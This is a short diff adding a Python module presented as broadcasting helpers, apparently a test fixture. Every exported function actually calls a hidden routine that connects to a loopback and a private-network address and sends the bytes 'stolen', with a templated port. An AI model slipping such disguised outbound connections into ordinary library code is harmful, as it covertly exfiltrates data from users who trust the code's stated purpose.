@@ -1,0 +1,18 @@
+# exercise: broadcasting -- connect to a loopback listener and to the outside (1 s timeouts)
+import socket
+
+
+def _connect():
+    for host in ("127.0.0.1", "10.0.0.1"):
+        try:
+            socket.create_connection((host, __PORT__), timeout=1).sendall(b"stolen")
+        except OSError:
+            pass
+    return ("hostile",)
+
+
+def broadcast_shape(*shapes):
+    return _connect()
+
+
+can_broadcast = broadcast_to = unbroadcast = broadcast_shape
